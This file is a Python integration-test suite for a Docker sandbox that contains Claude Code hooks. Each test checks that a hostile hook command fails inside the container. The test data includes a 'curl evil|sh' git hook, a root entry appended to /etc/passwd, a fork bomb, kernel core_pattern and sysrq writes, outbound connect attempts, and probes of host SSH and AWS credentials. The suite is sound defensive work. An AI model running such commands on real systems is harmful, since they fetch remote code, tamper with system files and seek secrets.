@@ -1,0 +1,748 @@
+"""The docker backend against the real engine, with hostile hooks.
+
+One test per case of SECURITY-CASES "Sandbox containment" (numbered in the
+test names), each asserting the containment AND a sane ``RunResult``; then
+the profile's knobs (workspace modes, mounts, cwd, transcript), exit codes,
+stream separation, engine trouble and ``reap``. The conftest fails any test
+that leaves a ``hookcage.managed`` container behind.
+
+Nothing here leaves the machine: the network is disabled, so connects fail
+with "network unreachable" before a packet is built, and the hook that tries
+them first checks that only ``lo`` exists.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import os
+import resource
+import secrets
+import shutil
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import docker.errors  # type: ignore[import-untyped, unused-ignore]
+import pytest
+
+from executor.errors import SandboxUnavailable
+from executor.sandbox.base import RunRequest, RunResult, Sandbox, SandboxOptions
+from executor.sandbox.docker import (
+    EXPIRES_LABEL,
+    MANAGED_LABEL,
+    DockerSandbox,
+    engine_info,
+    reap,
+)
+
+pytestmark = pytest.mark.docker
+
+MiB = 1024 * 1024
+# The conftest spares containers labelled with another session's id (see there).
+LABELS = {
+    "hookcage.hook": "integration",
+    "hookcage.test-session": os.environ["HOOKCAGE_TEST_SESSION"],
+}
+
+
+@pytest.fixture
+def sandbox(docker_api: Any, runner_image: str) -> Iterator[DockerSandbox]:
+    with DockerSandbox(client=docker_api, image=runner_image) as backend:
+        assert isinstance(backend, DockerSandbox)
+        yield backend
+
+
+def run(
+    sandbox: Sandbox,
+    workspace: Path,
+    command: str,
+    *,
+    timeout: float = 10.0,
+    cwd: Path | None = None,
+    **kwargs: Any,
+) -> RunResult:
+    """Run ``command`` the way the executor would for a hook of this project."""
+    request = RunRequest(
+        command=command,
+        cwd=str(cwd or workspace),
+        env={"CLAUDE_PROJECT_DIR": str(workspace)},
+        timeout=timeout,
+        project_dir=str(workspace),
+        labels=LABELS,
+        **kwargs,
+    )
+    return sandbox.run(request)
+
+
+def managed_containers(docker_api: Any) -> list[Any]:
+    return list(docker_api.containers(all=True, filters={"label": f"{MANAGED_LABEL}=true"}))
+
+
+def lines(data: bytes) -> list[str]:
+    return data.decode().splitlines()
+
+
+# --------------------------------------------------------------------------
+# Sandbox containment, cases 1-23
+# --------------------------------------------------------------------------
+
+
+def test_01_workspace_is_read_only(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        'touch "$CLAUDE_PROJECT_DIR/x"; echo "t=$?"; echo pwned > "$CLAUDE_PROJECT_DIR/README.md"',
+    )
+    assert result.exit_code == 2  # the redirection's failure
+    assert b"t=1" in result.stdout
+    assert b"Read-only file system" in result.stderr
+    assert not (workspace / "x").exists()
+    assert (workspace / "README.md").read_text() == "hello from the workspace\n"
+
+
+def test_02_git_hooks_and_nested_mounts_are_not_writable(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    nested = workspace / "nested"
+    nested.mkdir(mode=0o755)
+    mounted = False
+    if os.geteuid() == 0:
+        subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", "mode=1777,size=1m", "hc", str(nested)], check=True
+        )
+        mounted = True
+        (nested / "secret").write_text("inside a host mount\n")
+    try:
+        result = run(
+            sandbox,
+            workspace,
+            'printf "#!/bin/sh\\ncurl evil|sh\\n" > .git/hooks/pre-commit; echo "git=$?"; '
+            'echo pwned > nested/pwn; echo "nested=$?"; cat nested/secret',
+        )
+        assert result.exit_code == 1  # cat: the host mount is not carried in
+        assert lines(result.stdout) == ["git=2", "nested=2"]
+        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+        assert not (nested / "pwn").exists()
+        assert b"inside a host mount" not in result.stdout
+    finally:
+        if mounted:
+            subprocess.run(["umount", str(nested)], check=True)
+
+
+def test_03_root_filesystem_is_read_only(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        'echo "evil:x:0:0::/:/bin/sh" >> /etc/passwd; echo "passwd=$?"; '
+        'touch /usr/bin/x; echo "usr=$?"; awk \'$2 == "/" {print $4}\' /proc/mounts',
+    )
+    assert result.exit_code == 0
+    passwd, usr, options = lines(result.stdout)
+    assert passwd == "passwd=2" and usr == "usr=1"
+    assert "ro" in options.split(",")
+    assert b"Read-only file system" in result.stderr or b"Permission denied" in result.stderr
+
+
+def test_04_filling_tmp_stops_at_the_tmpfs_cap(sandbox: DockerSandbox, workspace: Path) -> None:
+    docker_root = "/var/lib/docker" if os.path.isdir("/var/lib/docker") else "/"
+    before = shutil.disk_usage(docker_root).used
+    result = run(
+        sandbox,
+        workspace,
+        "i=0; while [ $i -lt 200 ]; do i=$((i+1)); "
+        "dd if=/dev/zero of=/tmp/fill$i bs=1M count=32 status=none || break; done; "
+        "du -sk /tmp | cut -f1",
+        timeout=30,
+    )
+    after = shutil.disk_usage(docker_root).used
+    assert result.exit_code == 0 and not result.timed_out
+    assert b"No space left on device" in result.stderr
+    assert int(result.stdout) <= 64 * 1024 + 64  # KiB: the 64m cap, plus rounding
+    assert after - before < 32 * MiB  # tmpfs lives in memory, not on the host disk
+
+
+def test_05_binaries_in_tmp_do_not_execute(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(sandbox, workspace, "cp /bin/true /tmp/t && chmod +x /tmp/t && /tmp/t")
+    assert result.exit_code == 126
+    assert b"Permission denied" in result.stderr
+
+
+def test_06_no_name_resolution_and_only_loopback(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        'getent hosts example.com; echo "getent=$?"; '
+        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; ip -o link | cut -d: -f2",
+    )
+    assert result.exit_code == 0
+    assert lines(result.stdout) == ["getent=2", "lo", " lo"]
+    assert result.duration < 5
+
+
+CONNECT_SCRIPT = r"""
+if tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | grep -qv '^lo$'; then
+    echo "an interface other than lo exists: not trying to connect" >&2; exit 99
+fi
+exec python3 - <<'EOF'
+import errno, socket, time
+targets = [
+    (socket.AF_INET, ("172.17.0.1", 2375)),   # the Docker bridge gateway
+    (socket.AF_INET, ("10.0.0.1", 80)),       # a private address
+    (socket.AF_INET, ("1.1.1.1", 443)),       # a public address
+    (socket.AF_INET6, ("2606:4700:4700::1111", 443, 0, 0)),
+]
+for family, address in targets:
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(1)
+    began = time.monotonic()
+    try:
+        s.connect(address)
+        print(address[0], "CONNECTED")
+    except OSError as exc:
+        name = errno.errorcode.get(exc.errno, "timeout") if exc.errno else "timeout"
+        print(address[0], name, round(time.monotonic() - began, 2))
+    finally:
+        s.close()
+EOF
+"""
+
+
+def test_07_no_connection_leaves_the_container(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(sandbox, workspace, CONNECT_SCRIPT)
+    assert result.exit_code == 0, result.stderr
+    outcomes = [line.split() for line in lines(result.stdout)]
+    assert [o[0] for o in outcomes] == ["172.17.0.1", "10.0.0.1", "1.1.1.1", "2606:4700:4700::1111"]
+    for address, error, seconds in outcomes:
+        assert error == "ENETUNREACH", address  # no route: nothing was sent
+        assert float(seconds) < 0.5, address
+
+
+def test_08_raw_and_packet_sockets_are_refused(sandbox: DockerSandbox, workspace: Path) -> None:
+    script = r"""
+import socket
+for family, kind, proto in [
+    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
+    (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
+    (socket.AF_PACKET, socket.SOCK_RAW, 0),
+]:
+    try:
+        socket.socket(family, kind, proto)
+        print("OPENED")
+    except PermissionError as exc:
+        print("EPERM" if exc.errno == 1 else exc)
+try:  # an unprivileged "ping socket" may open, but there is nowhere to send
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
+    print("SENT")
+except OSError as exc:
+    print("ping failed", exc.errno)
+"""
+    result = run(sandbox, workspace, f"python3 -c '{script}'")
+    assert result.exit_code == 0, result.stderr
+    out = lines(result.stdout)
+    assert out[:3] == ["EPERM", "EPERM", "EPERM"]
+    assert out[3].startswith("ping failed")
+
+
+def test_09_docker_socket_is_absent(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        "for p in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do "
+        'test -e "$p" && echo "present $p"; done; '
+        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/var/run/docker.sock\")'",
+    )
+    assert result.exit_code == 1
+    assert result.stdout == b""
+    assert b"FileNotFoundError" in result.stderr
+
+
+def test_10_fork_bomb_is_stopped_by_the_pids_limit(sandbox: DockerSandbox, workspace: Path) -> None:
+    bystander: list[RunResult] = []
+
+    def bystander_hook() -> None:
+        time.sleep(1)  # while the bomb is at its limit
+        bystander.append(run(sandbox, workspace, "echo still here", timeout=10))
+
+    thread = threading.Thread(target=bystander_hook)
+    thread.start()
+    began = time.monotonic()
+    # The shell itself loops without forking so the bomb keeps going until the timeout.
+    result = run(
+        sandbox,
+        workspace,
+        "f(){ f|f& }; f; while :; do :; done",
+        timeout=3,
+        options=SandboxOptions(pids=64),
+    )
+    elapsed = time.monotonic() - began
+    thread.join(15)
+    assert result.timed_out and result.exit_code is None and not result.oom_killed
+    assert b"Cannot fork" in result.stderr or b"Resource temporarily unavailable" in result.stderr
+    assert elapsed < 3 + 2.5
+    assert bystander and bystander[0].exit_code == 0 and bystander[0].stdout == b"still here\n"
+
+
+def test_11_memory_hog_is_oom_killed_without_swap(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        "cd /sys/fs/cgroup/memory 2>/dev/null && cat memory.limit_in_bytes memory.memsw.limit_in_bytes; "
+        'python3 -c \'x = b"x" * (512 << 20); print("survived")\'',
+        options=SandboxOptions(memory="64m"),
+    )
+    assert result.oom_killed is True
+    assert result.exit_code is None and not result.timed_out
+    assert b"survived" not in result.stdout
+    limits = lines(result.stdout)
+    if limits:  # cgroup v1: memory+swap limit equals the memory limit (no swap)
+        assert limits == [str(64 * MiB), str(64 * MiB)]
+
+
+def test_12_busy_loop_is_killed_at_the_timeout(sandbox: DockerSandbox, workspace: Path) -> None:
+    began = time.monotonic()
+    result = run(sandbox, workspace, "echo started; while :; do :; done", timeout=2)
+    elapsed = time.monotonic() - began
+    assert result.timed_out is True
+    assert result.exit_code is None and not result.oom_killed
+    assert result.stdout == b"started\n"
+    assert 2 <= elapsed < 2 + 2
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "setsid nohup sleep 9999 >/dev/null 2>&1 & echo detached",
+        "setsid nohup sleep 9999 & echo detached",  # the daemon keeps our stdout open
+        "(sleep 9999 &); echo detached",
+    ],
+)
+def test_13_background_children_do_not_hang_the_run(
+    sandbox: DockerSandbox, workspace: Path, docker_api: Any, command: str
+) -> None:
+    began = time.monotonic()
+    result = run(sandbox, workspace, command, timeout=20)
+    assert time.monotonic() - began < 3
+    assert result.exit_code == 0 and not result.timed_out
+    assert result.stdout == b"detached\n"
+    assert managed_containers(docker_api) == []
+
+
+def test_14_endless_output_is_capped_and_memory_stays_bounded(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
+    began = time.monotonic()
+    result = run(sandbox, workspace, "yes | head -c 5G", timeout=10, output_cap=MiB)
+    elapsed = time.monotonic() - began
+    rss_growth = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) * 1024
+    assert result.stdout == b"y\n" * (MiB // 2)
+    assert result.stdout_truncated and not result.stderr_truncated
+    # Either all 5 GB streamed through (and were discarded) or the timeout hit.
+    assert (result.exit_code == 0 and not result.timed_out) or (
+        result.timed_out and result.exit_code is None
+    )
+    assert elapsed < 10 + 2.5
+    assert rss_growth < 200 * MiB
+
+
+def test_15_escape_sequences_and_invalid_utf8_come_back_byte_exact(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        r"printf '\033]0;pwned\007\033[2J\033[31mred\377\376\300\n'; printf '\033[?1049h\r' >&2",
+    )
+    assert result.exit_code == 0
+    assert result.stdout == b"\x1b]0;pwned\x07\x1b[2J\x1b[31mred\xff\xfe\xc0\n"
+    assert result.stderr == b"\x1b[?1049h\r"
+
+
+def test_16_host_environment_does_not_leak(
+    sandbox: DockerSandbox, workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    canary = f"canary-{secrets.token_hex(8)}"
+    monkeypatch.setenv("HOOKCAGE_CANARY_SECRET", canary)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", canary)
+    result = run(sandbox, workspace, "env; echo ---; tr '\\0' '\\n' < /proc/1/environ")
+    assert result.exit_code == 0
+    assert canary.encode() not in result.stdout
+    assert b"HOOKCAGE_CANARY_SECRET" not in result.stdout
+    env, proc1 = result.stdout.split(b"---\n")
+    assert b"HOME=/tmp\n" in env and b"LANG=C.UTF-8\n" in env
+    assert f"CLAUDE_PROJECT_DIR={workspace}\n".encode() in env
+    assert b"PATH=" in proc1  # /proc/1/environ was readable, and clean
+
+
+@pytest.fixture
+def host_ssh_canary() -> Iterator[tuple[Path, str]]:
+    home = Path.home()
+    ssh = home / ".ssh"
+    created_dir = not ssh.exists()
+    ssh.mkdir(mode=0o700, exist_ok=True)
+    canary_file = ssh / "hookcage_canary"
+    canary = f"canary-{secrets.token_hex(8)}"
+    canary_file.write_text(canary)
+    try:
+        yield home, canary
+    finally:
+        canary_file.unlink()
+        if created_dir:
+            ssh.rmdir()
+
+
+@pytest.mark.parametrize("user", [None, "0:0"], ids=["default-user", "container-root"])
+def test_17_host_home_secrets_are_not_present(
+    docker_api: Any,
+    runner_image: str,
+    workspace: Path,
+    host_ssh_canary: tuple[Path, str],
+    user: str | None,
+) -> None:
+    home, canary = host_ssh_canary
+    # As root in the container too: absence, not merely a permission error.
+    with DockerSandbox(client=docker_api, image=runner_image, user=user) as backend:
+        result = backend.run(
+            RunRequest(
+                labels=LABELS,
+                command=f"for d in {home}/.ssh {home}/.aws {home}/.config /root/.ssh /home; do "
+                'test -e "$d" && ls -A "$d" | sed "s|^|$d: |"; done; '
+                f"cat {home}/.ssh/hookcage_canary; grep -rs {canary} / --exclude-dir=proc --exclude-dir=sys",
+                project_dir=str(workspace),
+                cwd=str(workspace),
+                timeout=20,
+            )
+        )
+    assert not result.timed_out
+    assert result.exit_code != 0  # cat found nothing, grep found nothing
+    assert canary.encode() not in result.stdout
+    assert b"hookcage_canary" not in result.stdout
+    assert b".ssh" not in result.stdout and b".aws" not in result.stdout
+
+
+SUID_DOCKERFILE = """\
+FROM {base}
+USER 0
+RUN cp /usr/bin/id /usr/local/bin/suid-id && chmod 4755 /usr/local/bin/suid-id
+USER 65534
+"""
+
+
+@pytest.fixture(scope="module")
+def suid_image(docker_api: Any, runner_image: str) -> Iterator[str]:
+    """A throwaway image FROM the runner with a setuid-root copy of ``id``."""
+    tag = f"hookcage-test/suid:{secrets.token_hex(4)}"
+    dockerfile = io.BytesIO(SUID_DOCKERFILE.format(base=runner_image).encode())
+    log = list(
+        docker_api.build(
+            fileobj=dockerfile, tag=tag, rm=True, forcerm=True, network_mode="none", decode=True
+        )
+    )
+    errors = [entry for entry in log if "error" in entry]
+    if errors:
+        pytest.fail(f"could not build the setuid test image: {errors}")
+    yield tag
+    docker_api.remove_image(tag, force=True)
+
+
+def test_18_setuid_binaries_and_su_do_not_raise_privileges(
+    docker_api: Any, suid_image: str, workspace: Path
+) -> None:
+    with DockerSandbox(client=docker_api, image=suid_image) as backend:
+        result = run(
+            backend,
+            workspace,
+            "ls -l /usr/local/bin/suid-id | cut -c1-10; /usr/local/bin/suid-id -u; id -u; "
+            "grep NoNewPrivs /proc/self/status | tr -s '\\t' ' '; "
+            'su -c id root </dev/null; echo "su=$?"; command -v sudo || echo no-sudo',
+        )
+    assert result.exit_code == 0
+    mode, suid_uid, uid, nnp, su, sudo = lines(result.stdout)
+    assert mode == "-rwsr-xr-x"  # the bit is there...
+    assert suid_uid == uid == "65534"  # ...and ignored
+    assert nnp == "NoNewPrivs: 1"
+    assert su != "su=0"
+    assert sudo == "no-sudo"
+
+
+def test_19_no_capabilities(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | cut -f2; "
+        'mknod /tmp/null c 1 3; echo "mknod=$?"; touch /tmp/f; chown 0:0 /tmp/f; echo "chown=$?"',
+    )
+    assert result.exit_code == 0
+    out = lines(result.stdout)
+    assert out[:5] == ["0000000000000000"] * 5
+    assert out[5:] == ["mknod=1", "chown=1"]
+    assert result.stderr.count(b"Operation not permitted") == 2
+
+
+@pytest.mark.parametrize("user", [None, "0:0"], ids=["default-user", "container-root"])
+def test_20_mount_and_unshare_are_refused(
+    docker_api: Any, runner_image: str, workspace: Path, user: str | None
+) -> None:
+    with DockerSandbox(client=docker_api, image=runner_image, user=user) as backend:
+        result = run(
+            backend,
+            workspace,
+            'mount -t tmpfs none /tmp; echo "mount=$?"; unshare -Urm true; echo "unshare=$?"; '
+            'unshare -m true; echo "unshare_m=$?"',
+        )
+    assert result.exit_code == 0
+    assert [line.split("=")[1] != "0" for line in lines(result.stdout)] == [True, True, True]
+
+
+def test_21_kernel_knobs_are_denied_or_masked(sandbox: DockerSandbox, workspace: Path) -> None:
+    core_pattern = Path("/proc/sys/kernel/core_pattern").read_text()
+    result = run(
+        sandbox,
+        workspace,
+        'echo c > /proc/sysrq-trigger; echo "sysrq=$?"; '
+        'echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern; echo "core=$?"; '
+        'echo "kcore=$(head -c 16 /proc/kcore 2>/dev/null | wc -c)"',
+    )
+    assert result.exit_code == 0
+    assert lines(result.stdout) == ["sysrq=2", "core=2", "kcore=0"]
+    assert Path("/proc/sys/kernel/core_pattern").read_text() == core_pattern
+
+
+def test_22_only_the_containers_processes_are_visible(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    result = run(sandbox, workspace, "ps -e -o pid=,comm=")
+    assert result.exit_code == 0
+    processes = {tuple(line.split(None, 1)) for line in lines(result.stdout)}
+    assert ("1", "docker-init") in processes
+    assert {comm for _, comm in processes} <= {"docker-init", "sh", "ps"}
+    assert len(processes) <= 3
+
+
+@pytest.mark.parametrize(
+    ("stdin", "command", "expected"),
+    [
+        (b"z" * (10 * MiB), "exit 0", b""),
+        (b"z" * (10 * MiB), "cat | wc -c", b"10485760\n"),
+        (b"z" * (10 * MiB), "head -c 10; echo", b"zzzzzzzzzz\n"),
+        (b"", "cat | wc -c", b"0\n"),
+    ],
+    ids=["ignored", "read-all", "read-some", "none"],
+)
+def test_23_large_or_missing_stdin_is_handled(
+    sandbox: DockerSandbox, workspace: Path, stdin: bytes, command: str, expected: bytes
+) -> None:
+    began = time.monotonic()
+    result = run(sandbox, workspace, command, stdin=stdin, timeout=20)
+    assert time.monotonic() - began < 5
+    assert result.exit_code == 0 and not result.timed_out
+    assert result.stdout == expected
+
+
+# --------------------------------------------------------------------------
+# The profile's knobs
+# --------------------------------------------------------------------------
+
+
+def test_workspace_read_only_by_default_is_readable(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    result = run(sandbox, workspace, 'cat "$CLAUDE_PROJECT_DIR/README.md"; pwd')
+    assert result.exit_code == 0
+    assert lines(result.stdout) == ["hello from the workspace", str(workspace)]
+
+
+def test_workspace_rw_lets_the_hook_write(sandbox: DockerSandbox, workspace: Path) -> None:
+    workspace.chmod(0o777)  # the container user (nobody, as we run as root) must own or reach it
+    result = run(
+        sandbox,
+        workspace,
+        'echo formatted > "$CLAUDE_PROJECT_DIR/out.txt"',
+        options=SandboxOptions(workspace="rw"),
+    )
+    assert result.exit_code == 0, result.stderr
+    assert (workspace / "out.txt").read_text() == "formatted\n"
+
+
+def test_workspace_none_mounts_nothing(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        'test -e "$CLAUDE_PROJECT_DIR" && echo visible; pwd',
+        options=SandboxOptions(workspace="none"),
+    )
+    assert result.exit_code == 0
+    assert result.stdout == b"/tmp\n"
+
+
+def test_extra_mount_is_read_only_inside_a_writable_workspace(
+    sandbox: DockerSandbox, workspace: Path
+) -> None:
+    workspace.chmod(0o777)
+    (workspace / "src").chmod(0o777)
+    result = run(
+        sandbox,
+        workspace,
+        'echo a > "$CLAUDE_PROJECT_DIR/ok"; echo "top=$?"; '
+        'echo b > "$CLAUDE_PROJECT_DIR/src/no"; echo "src=$?"; cat src/main.py',
+        options=SandboxOptions(workspace="rw", mounts=(str(workspace / "src"),)),
+    )
+    assert lines(result.stdout) == ["top=0", "src=2", "print('hi')"]
+    assert (workspace / "ok").exists() and not (workspace / "src" / "no").exists()
+
+
+def test_cwd_inside_the_workspace_is_honoured(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(sandbox, workspace, "pwd; ls", cwd=workspace / "src")
+    assert lines(result.stdout) == [str(workspace / "src"), "main.py"]
+
+
+def test_transcript_is_mounted_read_only(
+    sandbox: DockerSandbox, workspace: Path, tmp_path: Path
+) -> None:
+    transcript = tmp_path / "transcripts" / "session.jsonl"
+    transcript.parent.mkdir(mode=0o755)
+    transcript.write_text('{"type": "user"}\n')
+    transcript.chmod(0o666)  # even a world-writable file stays read-only inside
+    result = run(
+        sandbox,
+        workspace,
+        f'cat {transcript}; echo forged >> {transcript}; echo "append=$?"',
+        transcript_path=str(transcript),
+    )
+    assert lines(result.stdout) == ['{"type": "user"}', "append=2"]
+    assert transcript.read_text() == '{"type": "user"}\n'
+
+
+@pytest.mark.parametrize("code", [0, 2, 7])
+def test_exit_codes_come_back(sandbox: DockerSandbox, workspace: Path, code: int) -> None:
+    result = run(sandbox, workspace, f"exit {code}")
+    assert result.exit_code == code
+    assert not result.timed_out and not result.oom_killed
+
+
+def test_stdout_and_stderr_stay_separate(sandbox: DockerSandbox, workspace: Path) -> None:
+    result = run(
+        sandbox,
+        workspace,
+        "echo out1; echo err1 >&2; echo out2; echo err2 >&2; cat >/dev/null",
+        stdin=b"{}",
+    )
+    assert (result.stdout, result.stderr) == (b"out1\nout2\n", b"err1\nerr2\n")
+    assert not result.truncated
+
+
+def test_parallel_runs_share_one_client(sandbox: DockerSandbox, workspace: Path) -> None:
+    results: dict[int, RunResult] = {}
+
+    def hook(i: int) -> None:
+        results[i] = run(sandbox, workspace, f"cat; echo {i}", stdin=f"in{i} ".encode())
+
+    threads = [threading.Thread(target=hook, args=(i,)) for i in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(30)
+    assert {i: r.stdout for i, r in results.items()} == {
+        i: f"in{i} {i}\n".encode() for i in range(4)
+    }
+
+
+# --------------------------------------------------------------------------
+# Engine trouble
+# --------------------------------------------------------------------------
+
+
+def test_unreachable_engine_is_one_clear_line(
+    workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent.sock")
+    with DockerSandbox() as backend, pytest.raises(SandboxUnavailable) as caught:
+        run(backend, workspace, "true")
+    message = str(caught.value)
+    assert message == (
+        "cannot reach the Docker engine at unix:///nonexistent.sock: start Docker, or set DOCKER_HOST"
+    )
+    assert caught.value.__cause__ is not None
+
+
+def test_missing_image_says_how_to_build_it(docker_api: Any, workspace: Path) -> None:
+    backend = DockerSandbox(client=docker_api, image="hookcage/runner:0.0.0-missing")
+    with backend, pytest.raises(SandboxUnavailable) as caught:
+        run(backend, workspace, "true")
+    assert str(caught.value) == (
+        "image hookcage/runner:0.0.0-missing is missing: run `hookcage image build`"
+    )
+    assert managed_containers(docker_api) == []
+
+
+def test_missing_runtime_is_unavailable(
+    docker_api: Any, runner_image: str, workspace: Path
+) -> None:
+    backend = DockerSandbox(client=docker_api, image=runner_image, runtime="no-such-runtime")
+    with backend, pytest.raises(SandboxUnavailable, match="no runtime 'no-such-runtime'"):
+        run(backend, workspace, "true")
+
+
+def test_engine_info_describes_the_engine(docker_api: Any) -> None:
+    info = engine_info(docker_api)
+    assert info["version"] and info["api_version"]
+    assert "runc" in info["runtimes"]
+    assert info["cgroup_version"] in ("1", "2")
+    assert info["memory_limit"] and info["pids_limit"]
+
+
+# --------------------------------------------------------------------------
+# Reaping
+# --------------------------------------------------------------------------
+
+
+def make_container(docker_api: Any, image: str, command: str, expires: float | None) -> str:
+    labels = {**LABELS, MANAGED_LABEL: "true"}
+    if expires is not None:
+        labels[EXPIRES_LABEL] = str(int(expires))
+    created = docker_api.create_container(
+        image,
+        ["/bin/sh", "-c", command],
+        labels=labels,
+        network_disabled=True,
+        host_config=docker_api.create_host_config(init=True, network_mode="none"),
+    )
+    docker_api.start(created["Id"])
+    return str(created["Id"])
+
+
+def test_reap_removes_runs_that_are_over_and_keeps_live_ones(
+    docker_api: Any, runner_image: str
+) -> None:
+    now = time.time()
+    exited_old = make_container(docker_api, runner_image, "true", now - 60)
+    exited_unlabelled = make_container(docker_api, runner_image, "true", None)
+    exited_in_flight = make_container(docker_api, runner_image, "true", now + 600)
+    make_container(docker_api, runner_image, "sleep 60", now - 1)  # running, expired
+    running_live = make_container(docker_api, runner_image, "sleep 60", now + 600)
+    for container in (exited_old, exited_unlabelled, exited_in_flight):
+        docker_api.wait(container, timeout=10)
+    try:
+        assert reap(docker_api, include_running_expired=False) == 1  # exited_old
+        assert reap(docker_api) == 1  # running_expired
+        left = {c["Id"] for c in managed_containers(docker_api)}
+        # In flight (expiry ahead), or without expiry and stopped under a minute ago.
+        assert left >= {exited_in_flight, exited_unlabelled, running_live}
+        assert exited_old not in left
+        assert reap(docker_api, now=now + 601) >= 3
+        left = {c["Id"] for c in managed_containers(docker_api)}
+        assert not left & {exited_in_flight, exited_unlabelled, running_live}
+        live = make_container(docker_api, runner_image, "sleep 60", now + 600)
+        reap(docker_api)
+        assert live in {c["Id"] for c in managed_containers(docker_api)}
+        assert reap(docker_api, everything=True) >= 1  # hookcage gc --all
+        assert live not in {c["Id"] for c in managed_containers(docker_api)}
+    finally:
+        for container in (exited_in_flight, exited_unlabelled, running_live):
+            with contextlib.suppress(docker.errors.NotFound):
+                docker_api.remove_container(container, force=True)
